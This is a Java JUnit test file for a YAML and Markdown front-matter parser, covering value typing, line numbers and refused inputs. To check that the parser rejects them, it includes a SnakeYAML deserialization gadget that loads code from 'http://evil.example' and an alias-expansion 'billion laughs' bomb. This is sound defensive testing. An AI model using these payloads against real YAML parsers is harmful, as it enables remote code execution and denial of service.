package io.github.registryorg.metadata;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.github.registryorg.problem.Problem;
import io.github.registryorg.problem.ProblemCode;
import io.github.registryorg.testkit.Problems;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Front matter and YAML as strangers write it: what is read of it, where it is, and what is refused. */
class FrontMatterTest {

    private static final String FILE = "acme/app/README.md";

    private static FrontMatter markdown(String text) {
        return FrontMatter.readMarkdown(FILE, text.getBytes(StandardCharsets.UTF_8));
    }

    private static FrontMatter yaml(String text) {
        return FrontMatter.readYaml(FILE, text.getBytes(StandardCharsets.UTF_8));
    }

    private static JsonNode value(String yaml) {
        return yaml("key: " + yaml).keys().toJson().get("key");
    }

    private static void assertInvalid(Problem problem, int line, String what) {
        assertThat(problem.code()).isEqualTo(ProblemCode.FRONT_MATTER_INVALID);
        assertThat(problem.subject()).isEqualTo(FILE);
        assertThat(problem.what()).isEqualTo(what);
        assertThat(problem.location()).hasToString(FILE + ":" + line);
        assertThat(problem.hint()).isNotBlank();
    }

    // where it begins and ends

    @Test
    void frontMatter_parsed_isSeparateFromMarkdown() {
        FrontMatter read = markdown("---\ntitle: The app\n---\n\n# Hello\n");

        assertThat(read.text("title")).contains("The app");
        assertThat(read.body()).isEqualTo("\n# Hello\n");
        assertThat(read.file()).isEqualTo(FILE);
    }

    @Test
    void dashes_inTheMarkdown_areMarkdown() {
        assertThat(markdown("---\na: 1\n---\nover\n---\nb: 2\n---\n").body()).isEqualTo("over\n---\nb: 2\n---\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"---\na: 1\n---", "---\na: 1\n---\n", "---  \na: 1\n---  \n", "---\na: 1\n...\n"})
    void markdown_absent_isEmpty(String text) {
        assertThat(markdown(text).text("a")).contains("1");
        assertThat(markdown(text).body()).isEmpty();
    }

    @Test
    void frontMatter_withoutKeys_isValid() {
        assertThat(markdown("---\n---\ntext\n").keys().entries()).isEmpty();
        assertThat(markdown("---\n# a comment\n---\ntext\n").body()).isEqualTo("text\n");
    }

    @Test
    void dashes_indented_areAValue() {
        assertThat(markdown("---\na: |\n  x\n  ---\n  y\n---\n").text("a")).contains("x\n---\ny\n");
    }

    @Test
    void lineEnds_crlf_areReadAsLf() {
        FrontMatter read = markdown("---\r\ntitle: x\r\nstore: y\r\n---\r\none\r\ntwo\r\n");

        assertThat(read.text("title")).contains("x");
        assertThat(read.at("store")).hasToString(FILE + ":3");
        assertThat(read.body()).isEqualTo("one\ntwo\n");
    }

    @Test
    void byteOrderMark_atTheBeginning_isSkipped() {
        assertThat(markdown("\uFEFF---\ntitle: x\n---\n").text("title")).contains("x");
        assertThat(yaml("\uFEFFtitle: x\n").text("title")).contains("x");
        assertThat(FrontMatter.isIn("\uFEFF---\n".getBytes(StandardCharsets.UTF_8)))
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "# Title\n",
                "\n---\na: 1\n---\n",
                " ---\na: 1\n---\n",
                "----\na: 1\n----\n",
                "--\n",
                "---",
                "--- title: x\na: 1\n---\n"
            })
    void file_withoutFrontMatter_isReported(String text) {
        assertInvalid(Problems.of(() -> markdown(text)), 1, "has no front matter in its first line");
        assertThat(FrontMatter.isIn(text.getBytes(StandardCharsets.UTF_8))).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"---\n", "---\na: 1\n", "---\na: 1\n ---\n", "---\na: 1\n--- x\n"})
    void frontMatter_withoutAnEnd_isReported(String text) {
        assertInvalid(Problems.of(() -> markdown(text)), 1, "has front matter that does not end");
        assertThat(FrontMatter.isIn(text.getBytes(StandardCharsets.UTF_8))).isTrue();
    }

    @Test
    void text_notUtf8_isReportedWithItsLine() {
        byte[] latin1 = "---\ntitle: x\ndescription: caf\u00e9\n---\n".getBytes(StandardCharsets.ISO_8859_1);

        assertInvalid(Problems.of(() -> FrontMatter.readMarkdown(FILE, latin1)), 3, "is not UTF-8");
    }

    @Test
    void markdown_notUtf8_isReported() {
        byte[] bytes = "---\na: 1\n---\nx\n?\n".getBytes(StandardCharsets.US_ASCII);
        bytes[bytes.length - 2] = (byte) 0xff;

        assertInvalid(Problems.of(() -> FrontMatter.readMarkdown(FILE, bytes)), 5, "is not UTF-8");
    }

    // values

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "12 | 12",
                "-3 | -3",
                "0 | 0",
                "999999999999999999 | 999999999999999999",
                "'12' | \"12\"",
                "\"12\" | \"12\"",
                "1.10 | \"1.10\"",
                "1e3 | \"1e3\"",
                "0x1F | \"0x1F\"",
                "0o17 | \"0o17\"",
                "017 | \"017\"",
                "1_000 | \"1_000\"",
                "+1 | \"+1\"",
                "9999999999999999999999 | \"9999999999999999999999\"",
                ".inf | \".inf\"",
                "true | true",
                "false | false",
                "'true' | \"true\"",
                "yes | \"yes\"",
                "no | \"no\"",
                "on | \"on\"",
                "True | \"True\"",
                "2026-11-20T10:11:12Z | \"2026-11-20T10:11:12Z\"",
                "2026-11-20 | \"2026-11-20\"",
                "12:30:45 | \"12:30:45\"",
                "'' | \"\"",
                "'null' | \"null\"",
                "[a, 1, '1'] | [\"a\",1,\"1\"]",
                "{a: 1} | {\"a\":1}",
                "a b # comment | \"a b\""
            })
    void scalar_decimalOrBoolean_isNotAText(String yaml, String json) {
        assertThat(value(yaml).toString()).isEqualTo(json);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "~", "null"})
    void key_withoutAValue_isAbsent(String nothing) {
        FrontMatter read = yaml("a: " + nothing + "\nb: 1\n");

        assertThat(read.keys().entries()).containsOnlyKeys("b");
        assertThat(read.text("a")).isEmpty();
        assertThat(read.at("a")).hasToString(FILE);
    }

    @Test
    void texts_singleValue_isReadAsAList() {
        FrontMatter read = yaml("one: x\nmany: [x, 1.10, {a: b}]\nblock:\n- x\n- 'y'\n");

        assertThat(read.texts("one")).containsExactly("x");
        assertThat(read.texts("many")).containsExactly("x", "1.10");
        assertThat(read.texts("block")).containsExactly("x", "y");
        assertThat(read.texts("none")).isEmpty();
    }

    @Test
    void integer_read_isExact() {
        FrontMatter read = yaml("plain: 12\nquoted: '12'\nfraction: 1.5\nlist: [1]\n");

        assertThat(read.integer("plain")).hasValue(12);
        assertThat(read.integer("quoted")).isEmpty();
        assertThat(read.integer("fraction")).isEmpty();
        assertThat(read.integer("list")).isEmpty();
        assertThat(read.integer("none")).isEmpty();
        assertThat(read.text("list")).isEmpty();
    }

    // lines

    @Test
    void value_read_hasItsLine() {
        FrontMatter read = markdown("---\n# comment\na: 1\n\nb: |\n  x\n  y\nlist:\n- one\n- k: v\n  u: w\n---\n");

        assertThat(read.at("a")).hasToString(FILE + ":3");
        assertThat(read.at("b")).hasToString(FILE + ":5");
        YamlValue.Sequence list = (YamlValue.Sequence) read.keys().entries().get("list");
        assertThat(list.items().get(0).line()).isEqualTo(9);
        YamlValue.Mapping item = (YamlValue.Mapping) list.items().get(1);
        assertThat(item.entries().get("k").line()).isEqualTo(10);
        assertThat(item.entries().get("u").line()).isEqualTo(11);
    }

    @Test
    void yamlFile_lines_countFromTheFirst() {
        assertThat(yaml("a: 1\nb: 2\n").at("b")).hasToString(FILE + ":2");
        assertThat(yaml("---\na: 1\nb: 2\n").at("b")).hasToString(FILE + ":3");
    }

    // what is refused

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "a: [1\\nb: 2 | 3",
                "a: b: c | 2",
                "x: 1\\na: 'open | 4",
                "x: 1\\ny: 2\\nz: {a: 1 | 5",
                "x: 1\\n\\ta: 1 | 3",
                "x: 1\\na: @at | 3",
                "x: 1\\na: \\u0001 | 3",
                "x: 1\\na: \"\\UFFFFFFFF\" | 3",
                "x: 1\\nl:\\n- a: {1\\n} b: 2 | 5"
            })
    void yaml_invalid_isReportedWithItsLine(String text, int line) {
        String yaml = text.replace("\\n", "\n").replace("\\t", "\t").replace("\\u0001", "\u0001");
        Problem problem = Problems.of(() -> markdown("---\n" + yaml + "\n---\n"));

        assertInvalid(problem, line, "is not valid YAML");
        assertThat(problem.cause()).isNotBlank().doesNotContain("\n");
    }

    @Test
    void escape_thatNamesNoCharacter_isReportedWithWhatToDo() {
        Problem problem = Problems.of(() -> yaml("a: \"\\UFFFFFFFF\"\n"));

        assertInvalid(problem, 1, "is not valid YAML");
        assertThat(problem.cause()).isEqualTo("an escape in double quotes names no character");
        assertThat(problem.hint()).isEqualTo("Write the character itself.");
    }

    @ParameterizedTest
    @ValueSource(strings = {"- a\n- b\n", "just words\n", "12\n", "'quoted'\n"})
    void yaml_notAMapping_isReported(String text) {
        assertInvalid(Problems.of(() -> markdown("---\n" + text + "---\n")), 2, "must be a mapping of keys to values");
    }

    @Test
    void document_second_isReportedWhereItBegins() {
        assertInvalid(Problems.of(() -> yaml("a: 1\n---\nb: 2\n")), 2, "has more than one YAML document");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a: 1\nb: 2\na: 3\n", "a:\nb: 2\na: 3\n", "a: 1\nb: 2\na:\n", "a: 1\nb: 2\n'a': 3\n"})
    void key_duplicate_isReported(String text) {
        assertInvalid(Problems.of(() -> yaml(text)), 3, "has the key \"a\" twice");
    }

    @Test
    void key_duplicateFurtherDown_isReported() {
        assertInvalid(Problems.of(() -> yaml("l:\n- a: 1\n  b: 2\n  a: 3\n")), 4, "has the key \"a\" twice");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a: 1\nb: &x [1]\n", "a: 1\nb: &x {c: 1}\n", "a: &x y\nb: *x\n", "l:\n- &x [1]\n"})
    void anchorOrAlias_read_isRefused(String text) {
        Problem problem = Problems.of(() -> yaml(text));

        assertThat(problem.what()).isEqualTo("has an anchor or alias (& or *)");
        assertThat(problem.location().line()).isBetween(1, 2);
        assertThat(problem.hint()).isEqualTo("Write the value out, or quote it.");
    }

    @Test
    void anchor_ofATextOrAKey_isIgnored() {
        assertThat(yaml("a: &x y\n&z b: 1\n").keys().toJson()).hasToString("{\"a\":\"y\",\"b\":1}");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a: 1\n? [b]\n: 2\n", "a: 1\n? {b: 1}\n: 2\n"})
    void key_thatIsNotAText_isReported(String text) {
        assertInvalid(Problems.of(() -> yaml(text)), 2, "has a key that is not a text");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "~", "null", "Null", "NULL"})
    void value_thatIsNone_isAbsent(String text) {
        assertThat(yaml("a: " + text + "\nb:\n- " + text + "\n- 1\nc: '" + text + "'\n")
                        .keys()
                        .toJson())
                .hasToString("{\"b\":[null,1],\"c\":\"" + text + "\"}");
    }

    @Test
    void aliases_ofMillionsOfValues_areRefusedFast() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n");
        for (int i = 1; i < 12; i++) {
            String alias = "*a" + (i - 1);
            bomb.append(
                    "a" + i + ": &a" + i + " [" + String.join(",", java.util.Collections.nCopies(10, alias)) + "]\n");
        }

        assertInvalid(Problems.of(() -> yaml(bomb.toString())), 1, "has an anchor or alias (& or *)");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: 1\nb: !!str 12\n",
                "a: 1\nb: !!java.util.Date x\n",
                "a: 1\nb: !own [1]\n",
                "a: 1\nb: !own {c: 1}\n",
                "a: 1\nb: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example\"]]\n"
            })
    void typeTag_read_isRefused(String text) {
        assertInvalid(Problems.of(() -> yaml(text)), 2, "has a type tag (!)");
    }

    @Test
    void nesting_of16Levels_isTheDeepest() {
        assertThat(yaml("a: " + "[".repeat(14) + "1" + "]".repeat(14)).keys().entries())
                .containsOnlyKeys("a");

        Problem problem = Problems.of(() -> yaml("x: 1\na: " + "[".repeat(40) + "]".repeat(40)));
        assertThat(problem.code()).isEqualTo(ProblemCode.FRONT_MATTER_INVALID);
        assertThat(problem.toString()).containsIgnoringCase("nest");
        assertThat(problem.hint()).isNotBlank();
        assertThat(problem.location().line()).isBetween(1, 2);
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "{a: "})
    void nesting_ofAHundredThousand_isRefused(String open) {
        assertThat(Problems.of(() -> yaml("a: " + open.repeat(100_000))).code())
                .isEqualTo(ProblemCode.FRONT_MATTER_INVALID);
    }

    @Test
    void mergeKey_read_isAnOrdinaryKey() {
        assertThat(yaml("<<: x\n").keys().entries()).containsOnlyKeys("<<");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a: 1\nb: \"x\\ud800y\"\n", "a: 1\n\"\\udc00\": x\n", "a: 1\nb: [\"\\ude00\\ud83d\"]\n"})
    void escape_ofHalfACharacter_isRefusedWithItsLine(String text) {
        assertInvalid(Problems.of(() -> yaml(text)), 2, "has an escape that names half a character");
    }

    @Test
    void escapes_ofBothHalves_areOneCharacter() {
        byte[] content = "a: \"\\ud83d\\ude00\"\n".getBytes(StandardCharsets.UTF_8);
        assertThat(FrontMatter.readYaml("note.yaml", content).text("a")).hasValue("\ud83d\ude00");
    }
}
